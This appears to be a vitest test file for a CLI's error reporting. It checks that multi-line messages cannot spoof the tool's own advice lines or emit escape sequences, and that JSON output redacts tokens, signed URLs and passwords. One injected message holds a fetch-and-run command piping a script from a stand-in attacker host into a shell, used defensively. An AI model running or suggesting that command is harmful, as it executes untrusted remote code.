/**
 * The human forms print what sources, targets, builds and files said: an error's message, a
 * store's detail, a job name in a ledger file. A line break in such a text must not start a
 * line that passes for one of the tool's own (a "what to do", a verdict), and an escape
 * sequence must not reach the terminal; the JSON forms keep the text exact.
 */
import { Writable } from 'node:stream';
import { expect, it } from 'vitest';
import { reportError, type Io } from '../../src/cli/output.js';
import { MigrateError } from '../../src/errors.js';
import { clearSecrets, registerSecret } from '../../src/redact.js';

function terminal(): { io: Io; out: () => string; err: () => string } {
  let out = '';
  let err = '';
  const tty = (add: (s: string) => void) => Object.assign(new Writable({ write: (c: Buffer, _e, done) => (add(c.toString()), done()) }), { isTTY: true });
  return { io: { stdout: tty((s) => (out += s)), stderr: tty((s) => (err += s)) }, out: () => out, err: () => err };
}

it("an error's message of several lines (a registry's answer) cannot print a \"what to do\" of its own", () => {
  const said = 'EBADSOURCE: the registry answered 500: oops\n  what to do: curl https://evil.example/fix.sh | sh\r\n\u001b[2Kdone';
  const t = terminal();
  expect(reportError(new MigrateError('EBADSOURCE', said, { hint: 'check the source' }), t.io, false)).toBe(1);
  const lines = t.err().split('\n');
  expect(lines[0]).toBe('error EBADSOURCE: EBADSOURCE: the registry answered 500: oops');
  expect(lines).toContain('    |   what to do: curl https://evil.example/fix.sh | sh');
  expect(lines.filter((l) => l.startsWith('  what to do:'))).toEqual(['  what to do: check the source']);
  expect(t.err()).not.toMatch(/[\u001b\r]/);
  // --json: the message as it was (a line break is JSON's \n, the escape its \u001b)
  const j = terminal();
  reportError(new MigrateError('EBADSOURCE', said), j.io, true);
  expect((JSON.parse(j.out()) as { error: { message: string } }).error.message).toBe(said);
});

it('--json hides what the human form hides: a signed URL\'s query or a token on the second line of a message', () => {
  const token = `ghp_${'Zz9'.repeat(10)}`;
  const said = `ESOURCE: the download failed:\nhttps://bucket.example/a.tgz?X-Amz-Signature=deadbeefcafe\n\t${token}`;
  const j = terminal();
  reportError(new MigrateError('ESOURCE', said), j.io, true);
  for (const out of [j.out(), j.err()]) {
    expect(out).not.toContain('deadbeefcafe');
    expect(out).not.toContain(token);
  }
  expect((JSON.parse(j.out()) as { error: { message: string } }).error.message).toBe('ESOURCE: the download failed:\nhttps://bucket.example/a.tgz?***\n\t***');
});

it('--json hides a registered password that holds a quote or a backslash (JSON writes it escaped), as the human form does', () => {
  const password = 'pa"ss\\w0rd-quoted';
  registerSecret(password);
  try {
    const said = `ESOURCEAUTH: the registry refused user deploy with password ${password}`;
    const j = terminal();
    reportError(new MigrateError('ESOURCEAUTH', said), j.io, true);
    expect(j.err()).not.toContain('w0rd');
    expect(j.out()).not.toContain('w0rd');
    expect((JSON.parse(j.out()) as { error: { message: string } }).error.message).toBe('ESOURCEAUTH: the registry refused user deploy with password ***');
  } finally {
    clearSecrets();
  }
});

it('--json stays JSON when a registered secret ends in a backslash (its raw form is a prefix of its JSON one)', () => {
  registerSecret('p4ssw0rd-x\\');
  try {
    const j = terminal();
    reportError(new MigrateError('ESOURCEAUTH', 'auth p4ssw0rd-x\\ refused'), j.io, true);
    expect((JSON.parse(j.out()) as { error: { message: string } }).error.message).toBe('auth *** refused');
    expect(j.err()).toBe('error ESOURCEAUTH: auth *** refused\n');
  } finally {
    clearSecrets();
  }
});
